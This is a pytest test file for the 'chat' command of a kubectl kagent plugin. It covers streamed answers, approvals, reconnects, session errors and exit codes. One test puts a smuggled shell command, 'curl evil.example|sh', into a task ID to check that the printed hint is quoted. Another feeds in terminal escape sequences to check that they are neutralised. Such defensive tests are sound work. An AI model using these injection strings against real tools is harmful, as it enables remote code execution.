"""chat with a message: stdout, stderr and exit code to the letter."""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from kubectl_kagent.model.resources import AGENT, DEPLOYMENT, SERVICE
from kubectl_kagent.model.workload import HIBERNATED_REPLICAS
from tests.conftest import Kagent
from tests.fake.agent import SESSION, TASK, Agent, called, gave, request, row, talking, task, text, update
from tests.fake.cluster import FakeCluster
from tests.loopback import Received, head, response, serve
from tests.objects import agent as agent_object
from tests.objects import reconcile

TOKENS = {"promptTokenCount": 40, "candidatesTokenCount": 2}
EMPTY = "error: the message is empty\nhint: give it as an argument, with -f, or on stdin\n"
CLOSING = f"session {SESSION} (0 prompt and 0 output tokens)\n"
NOON = [update("submitted"), update("working", text("It is noon.")), update("completed")]


def chat(kagent: Kagent, agent: Agent, *words: str, **how: Any) -> tuple[int, str, str]:
    return kagent("chat", "clock", *words, f"--kagent-url={agent.url}", **how)


def test_an_answer_with_tools(kagent: Kagent) -> None:
    turn = [
        update("submitted"),
        update("working", text("Let me see."), message_id="1"),
        update(
            "working", called("c1", "get_time", timezone="UTC"), called("c2", "boom"), usage_metadata=TOKENS
        ),
        update("working", gave("c1", "get_time", {"content": [{"type": "text", "text": "12:00"}]})),
        update("working", gave("c2", "boom", {"isError": True, "content": [{"text": "it\nexploded"}]})),
        update("working", text("It is "), partial=True),
        update("working", text("noon.\n"), partial=True),
        update("working", text("It is noon.\n"), usage_metadata=TOKENS),
        update("completed"),
    ]
    with talking(turn) as agent:
        code, out, err = chat(kagent, agent, "what time is it?")
    assert (code, out) == (0, "Let me see.\nIt is noon.\n")
    assert err == (
        '→ get_time timezone="UTC"\n→ boom\n✓ get_time 0.0s: 12:00\n✗ boom 0.0s: it exploded\n'
        f"session {SESSION} (80 prompt and 4 output tokens)\n"
    )
    assert agent.said == [{"kind": "message", "role": "user", "parts": [text("what time is it?")]}]


def test_the_tokens_that_the_end_of_a_turn_repeats_are_counted_once(kagent: Kagent) -> None:
    """kagent 0.9 and 0.10 (Python): the update that waits has the usage of the call before it again."""
    asked = request("c1", "delete")
    turn = [
        update("working", called("c1", "delete"), usage_metadata=TOKENS),
        update("working", asked, message_id="asked"),
        update("input-required", asked, message_id="asked", usage_metadata=TOKENS),
    ]
    with talking(turn) as agent:
        code, _, err = chat(kagent, agent, "hello")
    assert code == 7
    assert f"session {SESSION} (40 prompt and 2 output tokens)\n" in err


def test_a_failed_task(kagent: Kagent) -> None:
    turn = [update("submitted"), update("failed", text("429: slow down"), error_code="API_ERROR")]
    with talking(turn) as agent:
        done = chat(kagent, agent, "hello")
    assert done == (1, "", f"{CLOSING}error: agent clock's task is failed: 429: slow down\n")


@pytest.mark.parametrize("state", ["canceled", "rejected", "unknown"])
def test_other_ends(kagent: Kagent, state: str) -> None:
    with talking([update(state)], task=task("rejected")) as agent:
        code, out, err = chat(kagent, agent, "hello")
    assert (code, out) == (1, "")
    assert err.endswith(f"error: agent clock's task is {state.replace('unknown', 'rejected')}\n")


def test_who_must_be_asked_where_nobody_is(kagent: Kagent) -> None:
    turn = [update("input-required", request("c1", "delete", name="db"), request("c2", "drop"))]
    with talking(turn) as agent:
        done = chat(kagent, agent, "hello", "--user-id=jane")
    assert done == (
        7,
        "",
        f'{CLOSING}error: agent clock waits for somebody: approval of delete name="db"; approval of drop\n'
        f"hint: kubectl kagent approvals approve {TASK} --user-id=jane (or reject)\n",
    )
    questions = [{"question": "Which?", "choices": ["a"]}, {"question": "Why?"}]
    inner = {"originalFunctionCall": {"id": "i", "name": "delete", "args": {}}}
    turn = [
        update("input-required", request("c1", "ask_user", questions=questions)),
        update(
            "input-required",
            request("c1", "ask_user", questions=questions),
            request("c2", "x__NS__y", {"hitl_parts": [inner]}),
        ),
    ]
    for number, what in ((1, "Which?; Why?"), (2, "Which?; Why?; approval of delete (of x__NS__y)")):
        with talking(turn[number - 1 : number]) as agent:
            code, _, err = chat(kagent, agent, "hello")
        assert code == 7
        assert err.splitlines()[1:] == [
            f"error: agent clock waits for somebody: {what}",
            f"hint: kubectl kagent approvals approve {TASK} --answer=TEXT (or reject)",
        ]


def test_the_command_that_a_hint_gives_is_one_command_whatever_the_ids_are(kagent: Kagent) -> None:
    evil = "t;curl evil.example|sh"
    turn = [{**update("input-required", request("c1", "delete")), "taskId": evil}]
    with talking(turn) as agent:
        code, _, err = chat(kagent, agent, "hello", "--user-id=O'Brien")
    assert (code, err.splitlines()[-1]) == (
        7,
        f"hint: kubectl kagent approvals approve '{evil}' '--user-id=O'\"'\"'Brien' (or reject)",
    )


def test_an_end_that_the_task_takes_back_is_none(kagent: Kagent) -> None:
    """It did not say that it is final."""
    with talking([*NOON, update("failed", text("no"))]) as agent:
        assert chat(kagent, agent, "hello") == (
            1,
            "It is noon.\n",
            f"{CLOSING}error: agent clock's task is failed: no\n",
        )


@pytest.mark.parametrize("state", ["TASK_STATE_COMPLETED", "Completed", "completed ", "COMPLETED", "done"])
def test_a_state_that_only_looks_completed_is_not(kagent: Kagent, state: str) -> None:
    """It is asked what has become of the task."""
    with talking([update(state)], task=task("failed")) as agent:
        code, out, err = chat(kagent, agent, "hello")
    assert (code, out, err) == (1, "", f"{CLOSING}error: agent clock's task is failed\n")


def test_an_error_beside_a_result_counts(kagent: Kagent) -> None:
    both = {"result": update("completed"), "error": {"code": 1, "message": "x"}}
    with talking([f"data: {json.dumps(both)}\n\n".encode()]) as agent:
        assert chat(kagent, agent, "hello") == (1, "", "error: x (JSON-RPC error 1)\n")


def test_an_id_that_is_a_path_is_looked_up_as_an_id(kagent: Kagent) -> None:
    ids = {"taskId": "../../agents", "contextId": "../.."}
    turn = [{**update("working", text("x")), **ids}, b""]
    there = task("working", id_="../../agents", session="../..")
    with talking(turn, again=[[{**update("completed"), **ids}]], task=there) as agent:
        assert chat(kagent, agent, "hello")[0] == 0
    assert {asked.path.partition("?")[0] for asked in agent.requests} == {"/api/a2a/default/clock"}
    assert agent.calls[1:] == [
        ("tasks/get", {"id": "../../agents"}),
        ("tasks/resubscribe", {"id": "../../agents"}),
    ]


def test_another_tasks_end_is_not_the_end_of_the_turn(kagent: Kagent) -> None:
    """A sub-agent's task may pass by, and the stream break before our own ends."""
    other = {**update("completed", text("Found it.")), "final": True} | {"taskId": "x", "contextId": "y"}
    turn = [update("submitted"), update("working", text("I begin.")), other, b""]
    with talking(turn, again=[[update("failed", text("no"))]]) as agent:
        code, out, err = chat(kagent, agent, "hello")
    assert (code, out) == (1, "I begin.\nFound it.\n")
    assert err.splitlines()[1:] == [CLOSING[:-1], "error: agent clock's task is failed: no"]
    assert [params for method, params in agent.calls if method == "tasks/get"] == [{"id": TASK}]


def test_two_requests_of_one_id_are_told(kagent: Kagent) -> None:
    """And one that comes again, as the update that waits repeats it, is told once."""
    first, second = request("c1", "list_files"), request("c1", "drop", name="prod")
    turn = [update("working", first), update("input-required", first, second)]
    with talking(turn) as agent:
        code, _, err = chat(kagent, agent, "hello")
    what = 'approval of list_files; approval of drop name="prod"'
    assert (code, err.splitlines()[1]) == (7, f"error: agent clock waits for somebody: {what}")


def test_a_call_that_can_not_be_read_is_told_with_its_name(kagent: Kagent) -> None:
    odd = request("c2", "x")
    odd["data"]["args"]["originalFunctionCall"] = {"id": "c" * 200, "name": "drop", "args": ["prod"]}
    with talking([update("input-required", request("c1", "list_files"), odd)]) as agent:
        code, _, err = chat(kagent, agent, "hello")
    assert (code, err) == (
        7,
        f"{CLOSING}error: agent clock waits for somebody: approval of list_files; what is not understood: "
        f'{{"name": "drop", "id": "{"c" * 200}", "args": ["prod"]}}\n'
        f"hint: kubectl kagent approvals reject {TASK} rejects all of it\n",
    )


@pytest.mark.parametrize(
    ("state", "words", "said"),
    [
        ("auth-required", ["log in"], "log in"),
        ("input-required", ["Which\none?"], "Which one?"),
        ("input-required", [], "input-required"),
    ],
)
def test_what_waits_for_words_is_answered_with_words(
    kagent: Kagent, state: str, words: list[str], said: str
) -> None:
    with talking([update(state, *map(text, words))]) as agent:
        code, _, err = chat(kagent, agent, "hello", "--user-id=jane")
    assert (code, err) == (
        7,
        f"{CLOSING}error: agent clock waits for somebody: {said}\n"
        f"hint: kubectl kagent chat clock MESSAGE -n default --session={SESSION} --user-id=jane answers it\n",
    )


def test_json_is_every_event_as_it_came(kagent: Kagent) -> None:
    odd = {"kind": "news", "about": ["über", "\x1b[2J"]}
    turn = [*NOON[:1], odd, *NOON[1:]]
    with talking(turn) as agent:
        code, out, err = chat(kagent, agent, "hello", "-o", "json")
    assert (code, err) == (0, CLOSING)
    assert [json.loads(line) for line in out.splitlines()] == [{"result": event} for event in turn]
    assert "über" in out
    assert "\x1b" not in out


def test_what_is_not_understood_is_marked(kagent: Kagent) -> None:
    turn = [update("submitted"), update("working", {"kind": "file", "file": {"uri": "x"}}), *NOON[1:]]
    with talking(turn) as agent:
        done = chat(kagent, agent, "hello")
    mark = '? not understood: {"kind": "file", "file": {"uri": "x"}}\n'
    assert done == (0, "It is noon.\n", mark + CLOSING)


def test_nothing_that_others_write_reaches_the_terminal_as_a_command(kagent: Kagent) -> None:
    evil = "\x1b]0;owned\x07\x9b2J"
    turn = [
        update("working", called("c1", f"get{evil}", **{evil: evil})),
        update("working", gave("c1", f"get{evil}", {"content": [{"text": evil}]})),
        update("working", text(f"a{evil}"), partial=True),
        update("working", text(f"a{evil}b")),
        update("failed", text(evil)),
    ]
    with talking(turn) as agent:
        code, out, err = chat(kagent, agent, "hello")
    assert code == 1
    assert out == "a\\u001b]0;owned\\u0007\\u009b2Jb\n"
    assert not [char for char in err if char in evil[:1] + "\x07\x9b"]


def test_a_stream_that_breaks_off_is_picked_up(kagent: Kagent) -> None:
    turn = [update("submitted"), update("working", text("It is "), partial=True), b""]
    again = [update("working", text("noon."), partial=True), *NOON[1:]]
    with talking(turn, again=[again]) as agent:
        code, out, err = chat(kagent, agent, "hello")
    assert (code, out) == (0, "It is noon.\n")
    broken, closing = err.splitlines()
    assert broken == (
        "Warning: the stream from /api/a2a/default/clock?user_id=admin%40kagent.dev broke: "
        "the connection was closed; picking it up again"
    )
    assert closing + "\n" == CLOSING
    assert [method for method, _ in agent.calls] == ["message/stream", "tasks/get", "tasks/resubscribe"]


HITL = "https://kagent.dev/extensions/hitl/v1"


@pytest.mark.parametrize("named_by", ["event", "card"])
def test_an_approval_protocol_that_is_not_known_is_said_once(kagent: Kagent, named_by: str) -> None:
    asks = update("input-required", text("May I?"))
    card = {"capabilities": {"extensions": [{"uri": HITL}]}}
    if named_by == "event":
        asks["status"]["message"]["extensions"] = [HITL]
    with talking([update("submitted"), asks, asks], card=card if named_by == "card" else {}) as agent:
        code, _, err = chat(kagent, agent, "hello")
    assert code == 7
    assert err == (
        f"Warning: this kagent speaks an approval protocol that this plugin does not know: {HITL}\n{CLOSING}"
        "error: agent clock waits for somebody: May I?\nhint: decide it in kagent's own UI\n"
    )


def test_an_event_in_several_lines_is_one(kagent: Kagent) -> None:
    """As a gateway may write it; kagent writes one line."""
    whole = [json.dumps({"result": event}, indent=1).replace("\n", "\r\ndata: ") for event in NOON]
    with talking([f"data: {event}\r\n\r\n".encode() for event in whole]) as agent:
        assert chat(kagent, agent, "hello") == (0, "It is noon.\n", CLOSING)


@pytest.mark.parametrize("cut", [b'data: {"result": {"kind": "sta\n\n', b"<html>\n\n", b"data: [[[\n\n"])
def test_an_event_cut_in_half_is_asked_for_again(kagent: Kagent, cut: bytes) -> None:
    said = {"role": "agent", "messageId": "1", "kind": "message", "parts": [text("It is noon.")]}
    with talking([update("submitted"), cut], task=task("completed", said)) as agent:
        code, out, err = chat(kagent, agent, "hello")
    assert (code, out) == (0, "It is noon.\n")
    assert err.startswith("Warning: the agent")
    assert err.count("picking it up again") == 1


def test_a_turn_is_over_with_its_last_event_though_the_connection_stays_open(kagent: Kagent) -> None:
    heard, ended = threading.Event(), threading.Event()

    def stream(_asked: Received) -> Iterator[bytes]:
        yield head(200, "Content-Type: text/event-stream")
        for event in (*NOON[:-1], NOON[-1] | {"final": True}):
            yield f"data: {json.dumps({'result': event})}\n\n".encode()
        heard.wait(10)
        ended.set()

    with serve() as server:
        server.answer = stream
        code, out, _ = kagent("chat", "clock", "what time is it?", f"--kagent-url={server.url}")
        assert not ended.is_set()
        heard.set()
    assert (code, out) == (0, "It is noon.\n")


def test_an_agent_that_stays_away_is_given_up_and_the_session_is_named(kagent: Kagent) -> None:
    turn, again = [update("submitted"), b""], [[b""]] * 9
    with talking(turn, again=again) as agent:
        code, out, err = chat(kagent, agent, "hello")
    assert (code, out) == (5, "")
    assert err.count("picking it up again") == 5
    assert CLOSING in err


@pytest.mark.parametrize(
    ("answer", "code", "error"),
    [
        (response(200, {"a": 1}), 1, "answered with application/json, not an event stream: b'{\"a\": 1}'"),
        (response(200, "<html>", "text/html"), 1, "answered with text/html, not an event stream: b'<html>'"),
        (response(500, {"error": "broken"}), 1, "answered 500: broken"),
        (response(404, "Agent default/clock not found", "text/plain"), 1, "Agent default/clock not found"),
        (
            head(200, "Content-Type: text/event-stream"),
            5,
            "agent clock said nothing, and ended the conversation",
        ),
        (head(200, "Content-Type: text/event-stream") + b"data: 5\n", 1, "answered with int, not an object"),
    ],
)
def test_answers_that_are_none(kagent: Kagent, answer: bytes, code: int, error: str) -> None:
    with serve() as server:
        server.answer = lambda _: answer
        done = kagent("chat", "clock", "hello", f"--kagent-url={server.url}")
    assert done[:2] == (code, "")
    assert error in done[2].splitlines()[0]


# as kagent 0.10 tells of an agent without pods, and its Go and Python runtimes of a deleted session
NOT_THERE = {
    "code": -32603,
    "message": 'failed to send HTTP request: Post "http://clock.default:8080": '
    "dial tcp 10.96.64.3:8080: connect: connection refused",
}
UNREADABLE = {
    "code": -32603,
    "message": "failed to parse SSE data: json: cannot unmarshal object into "
    "Go struct field Error.error.data of type []*errordetails.Typed",
}
FAILED = (
    "Server error '500 Internal Server Error' for url "
    "'http://kagent-controller.kagent:8083/api/sessions?user_id=admin%40kagent.dev'\n"
    "For more information check: https://developer.mozilla.org/en-US/docs/Web/HTTP/Status/500"
)


def refusing(cluster: FakeCluster, error: dict[str, Any] = NOT_THERE) -> None:
    """The controller, which answers so for the agent ``clock``."""
    labels = {"app.kubernetes.io/name": "kagent", "app.kubernetes.io/component": "controller"}
    metadata = {"name": "kagent-controller", "namespace": "kagent", "labels": labels}
    ports = [{"name": "controller", "port": 8083}]
    cluster.add(
        SERVICE, {"apiVersion": "v1", "kind": "Service", "metadata": metadata, "spec": {"ports": ports}}
    )
    path = "kagent/kagent-controller:8083/api/a2a/default/clock?user_id=admin%40kagent.dev"
    cluster.streams[path] = [f"data: {json.dumps({'error': error})}".encode()]


@pytest.mark.parametrize(
    ("annotations", "why", "command"),
    [
        ({HIBERNATED_REPLICAS: "2"}, "hibernated", "wake agent/clock -n default"),
        ({}, "scaled to 0", "scale agent/clock -n default --replicas=1"),
    ],
)
def test_an_agent_without_pods_is_told_and_how_it_gets_some(
    cluster: FakeCluster, kagent: Kagent, annotations: dict[str, str], why: str, command: str
) -> None:
    refusing(cluster)
    cluster.add(AGENT, agent_object(deployment={"replicas": 0}))
    cluster.edit(AGENT, "clock", {"metadata": {"annotations": annotations}})
    reconcile(cluster, config_hash="1")
    for form in ((), ("-o", "json")):
        assert kagent("chat", "clock", "hello", *form) == (
            1,
            "",
            f"error: agent clock is {why}: there is no pod to ask\nhint: kubectl kagent {command}\n",
        )


def test_an_agent_with_pods_that_does_not_answer(cluster: FakeCluster, kagent: Kagent) -> None:
    refusing(cluster)
    cluster.add(AGENT, agent_object())
    reconcile(cluster, config_hash="1", ready=False)
    told = (
        f"error: {NOT_THERE['message']} (JSON-RPC error -32603)\n"
        "hint: kubectl kagent describe agent/clock -n default tells whether its pods run\n"
    )
    assert kagent("chat", "clock", "hello") == (1, "", told)
    cluster.deny("get", DEPLOYMENT)
    warning, rest = kagent("chat", "clock", "hello")[2].split("\n", 1)
    assert warning.startswith("Warning: whether agent clock has pods is not known: deployments.apps")
    assert rest == told


@pytest.mark.parametrize(
    ("turn", "words"),
    [
        (
            [f"data: {json.dumps({'error': UNREADABLE})}\n\n".encode()],
            f"{UNREADABLE['message']} (JSON-RPC error -32603)",
        ),
        (
            [update("submitted"), update("failed", text(FAILED))],
            f"agent clock's task is failed: {' '.join(FAILED.split())}",
        ),
    ],
    ids=["go", "python"],
)
def test_a_deleted_session_is_named_with_the_next_step(
    kagent: Kagent, turn: list[dict[str, Any] | bytes], words: str
) -> None:
    with talking(turn, data={"/api/sessions": []}) as agent:
        done = chat(kagent, agent, "hello", f"--session={SESSION}")
    assert done == (
        1,
        "",
        f"Warning: user admin@kagent.dev has no session {SESSION} to continue: a new one begins\n"
        f"{CLOSING}error: user admin@kagent.dev has no session {SESSION}: {words}\n"
        "hint: kubectl kagent sessions list clock -n default lists those that are there; "
        "a deleted one can't be continued\n",
    )


def test_a_session_that_is_there_is_not_blamed(kagent: Kagent) -> None:
    kept = {f"/api/sessions/{SESSION}": {"session": row(SESSION)}}
    with talking([update("failed", text("no\nmodel"))], data=kept) as agent:
        done = chat(kagent, agent, "hello", f"--session={SESSION}")
    assert done == (1, "", f"{CLOSING}error: agent clock's task is failed: no model\n")


def test_a_refusal_is_told(kagent: Kagent) -> None:
    failure = b'data: {"error": {"code": -32001, "message": "Task not found"}}\n\n'
    with talking([failure], data={"/api/sessions/s": {"session": row("s")}}) as agent:
        done = chat(kagent, agent, "hello", "--session=s")
    closing = "session s (0 prompt and 0 output tokens)\n"
    assert done == (1, "", f"{closing}error: Task not found (JSON-RPC error -32001)\n")


def test_where_the_message_comes_from(kagent: Kagent, tmp_path: Path) -> None:
    file = tmp_path / "question"
    file.write_text("from a file\n")
    for words, how, message in (
        (["an argument"], {}, "an argument"),
        (["-f", str(file)], {}, "from a file\n"),
        (["-f", "-"], {"input": "from stdin"}, "from stdin"),
        (["-"], {"input": "from stdin"}, "from stdin"),
        ([], {"input": "from stdin too"}, "from stdin too"),
    ):
        with talking(NOON) as agent:
            assert chat(kagent, agent, *words, **how) == (0, "It is noon.\n", CLOSING)
        assert agent.said[0]["parts"] == [text(message)]


@pytest.mark.parametrize(
    ("words", "error"),
    [
        (["-", "-f", "-"], "error: give the message as an argument or with -f, not both\n"),
        (["-"], EMPTY),
        (["a", "-f", "-"], "error: give the message as an argument or with -f, not both\n"),
        ([""], EMPTY),
        ([], EMPTY),
        (["a", "--session=s", "--continue"], "error: only one of --session and --continue may be used\n"),
        (
            ["a", "--otlp-endpoint=ftp://x"],
            'error: "ftp://x" is not a URL of an OTLP receiver\nhint: write http://HOST:4317 (gRPC) or http://HOST:4318\n',
        ),
    ],
)
def test_command_lines_that_make_no_sense(kagent: Kagent, words: list[str], error: str) -> None:
    with talking() as agent:
        assert chat(kagent, agent, *words) == (2, "", error)
    assert agent.requests == []


def test_an_agent_must_be_named(kagent: Kagent) -> None:
    done = kagent("chat", "agents", "hello")
    assert done == (2, "", "error: name an agent\nhint: an agent called agents is agent/agents\n")


def test_going_on_with_a_session(kagent: Kagent) -> None:
    listed = [row("old", updated_at="2026-11-01T00:00:00Z"), row("new"), row("x", "default__NS__other")]
    with talking(NOON, data={"/api/sessions": listed}) as agent:
        assert chat(kagent, agent, "hello", "--continue")[0] == 0
    assert agent.said[0]["contextId"] == "new"
    data = {"/api/sessions": listed, "/api/sessions/old": {"session": row("old")}}
    warning = "Warning: user admin@kagent.dev has no session mine to continue: a new one begins\n"
    for word, session, told in (("old", "old", ""), ("ol", "old", ""), ("mine", "mine", warning)):
        with talking(NOON, data=data) as agent:
            code, _, err = chat(kagent, agent, "hello", f"--session={word}")
        assert (code, err.replace(CLOSING, "")) == (0, told)
        assert agent.said[0]["contextId"] == session
    with talking(data={"/api/sessions": [row("old-1"), row("old-2")]}) as agent:
        assert chat(kagent, agent, "hello", "--session=old") == (
            2,
            "",
            'error: "old" is the beginning of several sessions: old-1, old-2\n',
        )
    assert agent.said == []
    with talking(data={"/api/sessions": []}) as agent:
        assert chat(kagent, agent, "hello", "--continue") == (
            1,
            "",
            "error: agent clock has no session to continue\nhint: leave --continue out to begin one\n",
        )


def test_an_agent_that_is_not_there(kagent: Kagent, cluster: FakeCluster) -> None:
    code, out, err = kagent("chat", "clock", "hello")
    assert (code, out) == (1, "")
    assert err.startswith('Error from server (NotFound): agents.kagent.dev "clock" not found')


def test_an_event_of_ten_megabytes(kagent: Kagent) -> None:
    words = "It is noon. " * 900_000
    with talking([update("working", text(words)), update("completed")]) as agent:
        code, out, err = chat(kagent, agent, "hello")
    assert (code, err) == (0, CLOSING)
    assert out == words + "\n"


def test_an_event_without_end(kagent: Kagent) -> None:
    """What no agent would write is not kept in memory for ever."""
    with talking([update("working", text("x" * 33 * 1024 * 1024))]) as agent:
        code, out, err = chat(kagent, agent, "hello")
    assert (code, out, err) == (
        1,
        "",
        "error: a line of more than 33554432 bytes came: longer than any valid answer\n",
    )


@pytest.mark.parametrize(
    ("answer", "exit_code"),
    [
        (b"", 5),
        (head(200, "Content-Type: text/event-stream", "Transfer-Encoding: chunked") + b"5", 5),
        (response(500, {"error": "database is locked"}), 1),
        (response(504, "", "text/plain"), 5),
    ],
    ids=["none", "a part", "500", "504"],
)
def test_a_question_whose_answer_is_lost_may_have_been_heard(
    kagent: Kagent, answer: bytes, exit_code: int
) -> None:
    with serve() as server:
        server.answer = lambda _: answer
        code, out, err = kagent("chat", "clock", "what time is it?", f"--kagent-url={server.url}")
        assert (code, out, len(server.received)) == (exit_code, "", 1)
    assert err.endswith(
        ": whether agent clock was told is not known\n"
        "hint: kubectl kagent sessions list clock -n default shows what it was told\n"
    )
